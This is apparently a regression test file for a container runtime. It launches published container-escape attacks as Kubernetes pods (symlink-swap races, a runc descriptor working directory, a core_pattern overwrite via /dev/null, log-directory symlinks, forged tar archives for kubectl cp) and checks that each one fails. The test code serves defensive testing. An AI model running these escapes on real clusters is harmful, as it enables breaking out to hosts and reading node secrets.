"""Published escapes from containers, tried with kubectl on a cluster with real containers;
runtime/oci/escapes has more.
"""

from __future__ import annotations

import base64
import io
import json
import os
import secrets
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import Cluster, Kubectl, kubectl_binaries, running_cluster
from tests.e2e.nodes.conftest import Space

from transom.node.runtimes import missing_requirements
from transom.runtime.images.builtin import BUSYBOX

NODES = """
apiVersion: transom.dev/v1
kind: Cluster
engine: oci
nodes:
- {name: linux-1, role: control-plane, taints: []}
- {name: plain-1, userNamespaces: false, taints: ["users=host:NoSchedule"]}
"""
PODS = 6
Object = dict[str, Any]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    why = missing_requirements()["linux"] or (
        "" if kubectl_binaries() else "no kubectl on this machine"
    )
    if why or not BUSYBOX.exists():
        pytest.skip(why or "the package busybox-static is not installed")
    made = tmp_path_factory.mktemp("real")
    (made / "cluster.yaml").write_text(NODES)
    return made


@pytest.fixture(scope="module")
def real_cluster(folder: Path) -> Iterator[Cluster]:
    with running_cluster(folder, "--config", str(folder / "cluster.yaml")) as running:
        yield running


@pytest.fixture
def ns(real_cluster: Cluster) -> Iterator[Space]:
    kubectl = Kubectl(kubectl_binaries()[0], real_cluster)
    name = f"t-{secrets.token_hex(3)}"
    kubectl("create", "namespace", name)
    yield Space(kubectl, name)
    kubectl("delete", "namespace", name, "--wait=false")


def container(name: str, script: str, *mounts: Object) -> Object:
    return {
        "name": name,
        "image": "busybox",
        "command": ["sh", "-c", script],
        "volumeMounts": list(mounts),
    }


def pod(
    name: str, containers: list[Object], volumes: list[Object], restart: str = "Never"
) -> Object:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name},
        "spec": {
            "restartPolicy": restart,
            "terminationGracePeriodSeconds": 0,
            "containers": containers,
            "volumes": volumes,
        },
    }


def swap(target: str) -> str:
    return (
        "while ! test -e /v/stop; do rm -rf /v/d; mkdir /v/d; touch /v/d/inside; rm -rf /v/d; "
        f"ln -s -T {target} /v/d; done 2>/dev/null"
    )


@pytest.mark.parametrize("propagation", ["HostToContainer", "None"])
@pytest.mark.parametrize("source", ["emptyDir", "hostPath"])
def test_two_containers_of_a_pod_and_a_sub_path(ns: Space, propagation: str, source: str) -> None:
    """CVE-2021-25741 as in a pod without any privileges: one container exchanges what the other one
    is started with.
    """
    look = "ls /mnt; ls /mnt/proc /mnt/var/lib/kubelet /mnt/etc 2>/dev/null; sleep 0.1"
    for number in range(PODS):
        volume: Object = {"emptyDir": {}}
        if source == "hostPath":
            volume = {"hostPath": {"path": f"/data-{propagation}", "type": "DirectoryOrCreate"}}
        attack = pod(
            f"p{number}",
            [
                container("swap", swap("/"), {"name": "v", "mountPath": "/v"}),
                container(
                    "victim",
                    look,
                    {
                        "name": "v",
                        "mountPath": "/mnt",
                        "subPath": "d",
                        "mountPropagation": propagation,
                    },
                ),
            ],
            [{"name": "v", **volume}],
            restart="Always",
        )
        ns.apply(json.dumps(attack))
    for number in range(PODS):
        ns.until(_tried, "pod", f"p{number}")
        for previous in ((), ("--previous",)):
            done = ns.done("logs", f"p{number}", "-c", "victim", *previous)
            if done.returncode == 0:
                assert set(done.stdout.split()) <= {"inside"}, done.stdout
    ns("delete", "pods", "--all", "--wait=false")


def _tried(found: Object) -> bool:
    """The victim was started, or could not be, and was tried again."""
    rows = [
        row for row in found["status"].get("containerStatuses") or () if row["name"] == "victim"
    ]
    if not rows:
        return False
    state = rows[0].get("state") or {}
    return rows[0].get("restartCount", 0) > 0 or (state.get("waiting") or {}).get("reason", "") in (
        "CrashLoopBackOff",
        "RunContainerError",
        "CreateContainerConfigError",
        "CreateContainerError",
    )


def test_pods_with_the_published_attacks_on_runc(ns: Space, tmp_path: Path) -> None:
    """CVE-2024-21626 (a descriptor as working directory), CVE-2021-30465 (a mount point in a volume
    is exchanged for a link) and CVE-2025-31133 (the null device is a link), as pods that anyone may
    create.
    """
    core_pattern = Path("/proc/sys/kernel/core_pattern")
    before = core_pattern.read_bytes()
    outside, secret = tmp_path / "outside", tmp_path / "secret"
    outside.mkdir()
    secret.write_text("of the machine")
    look = "; ".join(f"cat {'../' * depth}.{secret}" for depth in range(8)) + "; sleep 0.1"
    volume, inner = {"name": "v", "emptyDir": {}}, {"name": "inner", "emptyDir": {}}
    data = {"name": "v", "mountPath": "/v"}
    attacks = [
        pod(
            f"directory-{number}",
            [container("victim", look) | {"workingDir": f"/proc/self/fd/{number}"}],
            [],
            restart="Always",
        )
        for number in (7, 8, 9)
    ]
    attacks += [
        pod(
            f"mount-{number}",
            [
                container("swap", swap(str(outside)), data),
                container("victim", "ls /v/d; sleep 0.1", data, nested),
            ],
            [volume, inner],
            restart="Always",
        )
        for number, nested in enumerate([{"name": "inner", "mountPath": "/v/d/made/here"}] * 3)
    ]
    relink = f"while true; do rm -f /v/null; ln -s {core_pattern} /v/null; done 2>/dev/null"
    write = "echo '|/evil' > /dev/null; echo '|/evil' > /proc/kcore; cat /proc/kcore; sleep 0.1"
    attacks.append(
        pod(
            "null",
            [
                container("swap", relink, data),
                container("victim", write, {"name": "v", "mountPath": "/dev"}),
            ],
            [volume],
            restart="Always",
        )
    )
    ns.apply(json.dumps({"apiVersion": "v1", "kind": "List", "items": attacks}))
    for attack in attacks:
        name = attack["metadata"]["name"]
        found = ns.until(_tried, "pod", name)
        rows = {row["name"]: row for row in found["status"]["containerStatuses"]}
        if name.startswith("directory"):
            assert "possible container breakout detected" in json.dumps(rows["victim"])
        else:
            assert rows["swap"]["ready"]
        for previous in ((), ("--previous",)):
            printed = ns.done("logs", name, "-c", "victim", *previous).stdout
            assert "of the machine" not in printed and core_pattern.name not in printed, printed
    assert list(outside.iterdir()) == []
    assert core_pattern.read_bytes() == before
    ns("delete", "pods", "--all", "--wait=false")


def test_logs_of_a_pod_that_has_the_log_directory(ns: Space) -> None:
    script = (
        "echo mine; cd /logs/pods/*_web_*/c; while ! test -s 0.log; do sleep 0.05; done; mv "
        "0.log old; "
        "ln -s /var/lib/kubelet/secret 0.log; ln -s / /logs/root; touch "
        "/node/var/lib/kubelet/secret; "
        "echo '2020-01-02T03:04:05.0Z stdout F of the node' > /node/var/lib/kubelet/secret; "
        "touch /tmp/ready; sleep 1000"
    )
    mounts: list[Object] = [
        {"name": "logs", "mountPath": "/logs"},
        {"name": "node", "mountPath": "/node"},
    ]
    attack = pod(
        "web",
        [container("c", script, *mounts)],
        [
            {"name": "logs", "hostPath": {"path": "/var/log"}},
            {"name": "node", "hostPath": {"path": "/"}},
        ],
    )
    attack["spec"]["containers"][0]["readinessProbe"] = {
        "exec": {"command": ["test", "-e", "/tmp/ready"]},
        "periodSeconds": 1,
    }
    ns.apply(json.dumps(attack))
    ns.until(
        lambda found: any(
            row.get("ready") for row in found["status"].get("containerStatuses") or ()
        ),
        "pod",
        "web",
    )
    done = ns.done("logs", "web")
    assert "of the node" not in done.stdout
    for path in ("root/var/lib/kubelet/secret", "root/"):
        done = ns.done("get", "--raw", f"/api/v1/nodes/linux-1/proxy/logs/{path}")
        assert done.returncode != 0, done.stdout
    assert "pods" in ns("get", "--raw", "/api/v1/nodes/linux-1/proxy/logs/")


def _archive(outside: str) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name, target in (("x/out", outside), ("x/up", "../../.."), ("x/rooted", "/")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            archive.addfile(link)
        for name in (
            "x/file",
            "x/out/pwned",
            "x/up/pwned",
            "../../pwned",
            "x/../../../pwned",
            f"{outside}/pwned",
            f"x/rooted{outside}/pwned",
        ):
            file = tarfile.TarInfo(name)
            file.size = 6
            archive.addfile(file, io.BytesIO(b"pwned\n"))
    return data.getvalue()


def test_cp_from_a_container_with_a_forged_archive(ns: Space, tmp_path: Path) -> None:
    """CVE-2019-1002101, CVE-2019-11246, CVE-2019-11249: the container's tar sends links and paths
    that lead elsewhere.
    """
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "a/b/c").mkdir(parents=True)
    archive = base64.b64encode(_archive(str(outside))).decode()
    script = (
        "rm /bin/tar; printf '#!/bin/sh\\ncat /archive\\n' > /bin/tar; chmod 755 /bin/tar; touch "
        "/ready; sleep 1000"
    )
    script = f"echo {archive} | base64 -d > /archive; {script}"
    attack = pod("web", [container("c", script)], [])
    attack["spec"]["containers"][0]["readinessProbe"] = {
        "exec": {"command": ["test", "-e", "/ready"]},
        "periodSeconds": 1,
    }
    ns.apply(json.dumps(attack))
    ns.until(
        lambda found: any(
            row.get("ready") for row in found["status"].get("containerStatuses") or ()
        ),
        "pod",
        "web",
    )
    ns.done("cp", "web:/x", str(tmp_path / "a/b/c/x"))
    assert os.listdir(outside) == []
    assert not (tmp_path / "pwned").exists()
    assert not (tmp_path / "a/pwned").exists()


def test_a_pod_in_a_user_namespace(ns: Space) -> None:
    """Everything that a pod usually does, as a root that is an unprivileged user of this machine.
    It is the default.
    """
    serve = (
        "cat /proc/self/uid_map; cat /config/key; echo; echo written > /data/file; echo "
        "served > /data/index.html; "
        "exec httpd -f -h /data"
    )
    mounts: list[Object] = [
        {"name": "data", "mountPath": "/data"},
        {"name": "config", "mountPath": "/config"},
    ]
    web = pod(
        "web",
        [container("c", serve, *mounts)],
        [{"name": "data", "emptyDir": {}}, {"name": "config", "configMap": {"name": "config"}}],
    )
    web["spec"] |= {"nodeName": "linux-1", "securityContext": {"fsGroup": 2000}}
    ns("create", "configmap", "config", "--from-literal", "key=value")
    ns.apply(json.dumps(web))
    ns.ready("pod/web")
    ns.until(lambda _: "value" in ns("logs", "web"), "pod", "web")
    lines = ns("logs", "web").split()
    assert lines[0] == "0" and int(lines[1]) >= 1 << 26 and lines[2:] == ["65536", "value"]
    look = "id -u; stat -c '%u %g' /data/file; ls /var/run/secrets/kubernetes.io/serviceaccount"
    assert ns("exec", "web", "--", "sh", "-c", look).split() == [
        "0",
        "0",
        "2000",
        "ca.crt",
        "namespace",
        "token",
    ]
    address = ns.object("pod", "web")["status"]["podIP"]
    for node in ("linux-1", "plain-1"):
        fetch = pod(f"fetch-{node}", [container("c", f"wget -qO- http://{address}/")], [])
        fetch["spec"]["nodeName"] = node
        ns.apply(json.dumps(fetch))
        ns.until(lambda found: found["status"]["phase"] == "Succeeded", "pod", f"fetch-{node}")
        assert ns("logs", f"fetch-{node}") == "served\n"
    look = "readlink /proc/self/ns/user; ls /node/var/lib/kubelet/pods > /dev/null && echo seen"
    on_node = pod(
        "node",
        [container("c", look, {"name": "node", "mountPath": "/node"})],
        [{"name": "node", "hostPath": {"path": "/"}}],
    )
    on_node["spec"] |= {"nodeName": "linux-1", "hostNetwork": True}
    ns.apply(json.dumps(on_node))
    ns.until(lambda found: found["status"]["phase"] == "Succeeded", "pod", "node")
    assert ns("logs", "node").split() == [os.readlink("/proc/self/ns/user"), "seen"]


def test_pods_with_and_without_user_namespaces_share_a_volume(ns: Space) -> None:
    """Files have the same owners for both: what root writes in one belongs to root in the other."""
    host = os.readlink("/proc/self/ns/user")
    look = (
        "readlink /proc/self/ns/user; stat -c '%n %u %g %a' /d/*; umask 077; echo x > /d/{}; "
        "chown 999:999 /d/{}; sleep 1000"
    )
    volume: Object = {
        "name": "d",
        "hostPath": {"path": "/shared-owners", "type": "DirectoryOrCreate"},
    }
    found = []
    for name, added in (("first", []), ("second", ["MKNOD"]), ("third", [])):
        one = container("c", look.replace("{}", name), {"name": "d", "mountPath": "/d"})
        one["securityContext"] = {"capabilities": {"add": added}}
        made = pod(name, [one], [volume])
        made["spec"]["nodeName"] = "linux-1"
        ns.apply(json.dumps(made))
        ns.ready(f"pod/{name}")
        ns(
            "exec",
            name,
            "--",
            "sh",
            "-c",
            f"until test $(stat -c %u /d/{name}) = 999; do sleep 0.1; done",
        )
        namespace, *files = ns("logs", name).splitlines()
        found.append(
            (
                namespace == host,
                [line for line in files if line.startswith("/d/") and not line.startswith("/d/*")],
            )
        )
    assert found == [
        (False, []),
        (True, ["/d/first 999 999 600"]),
        (False, ["/d/first 999 999 600", "/d/second 999 999 600"]),
    ]
